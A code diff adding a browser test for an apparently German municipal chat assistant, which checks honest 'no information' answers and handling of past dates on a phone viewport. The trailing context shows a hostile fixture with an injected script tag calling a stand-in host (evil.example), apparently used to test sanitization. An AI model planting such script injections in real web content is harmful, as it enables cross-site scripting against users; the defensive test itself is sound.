@@ -98,6 +98,26 @@ def test_ask_read_sources_open_pdf_and_give_feedback(shipped, browser, tmp_path)
     assert stored[0]["settings"]["audience"] == "citizen"
 
 
+def test_citizen_on_a_phone_gets_an_honest_refusal_and_past_dates_as_past(shipped, browser):
+    with running(shipped) as url:
+        context = browser.new_context(viewport={"width": 390, "height": 844}, device_scale_factor=2, is_mobile=True,
+                                      has_touch=True)
+        page = context.new_page()
+        page.goto(url)
+        page.get_by_label("Bürgerinnen und Bürger").check()
+        page.get_by_label("Ihre Frage").fill("Wann öffnet das Stadtteilhaus am Barnimplatz?")
+        page.get_by_role("button", name="Fragen", exact=True).click()
+        page.get_by_text("Dazu steht in den vorliegenden Unterlagen nichts").wait_for(timeout=60_000)
+        assert "Bezirksamt Marzahn-Hellersdorf" in page.locator("#gi-chat").inner_text()
+
+        page.get_by_label("Ihre Frage").fill("Wann ist die nächste mobile Sprechstunde in Hellersdorf-Nord?")
+        page.get_by_role("button", name="Fragen", exact=True).click()
+        page.get_by_text("nur vergangene Termine").wait_for(timeout=60_000)
+        ARTIFACTS.mkdir(parents=True, exist_ok=True)
+        page.screenshot(path=str(ARTIFACTS / "ui-phone-refusal.png"), full_page=True)
+        context.close()
+
+
 HOSTILE = """# Hinweise zum Kiezfest
 
 Das Kiezfest findet auf dem Festplatz statt. <script>window.__pwned = 1; fetch('http://evil.example/x')</script>
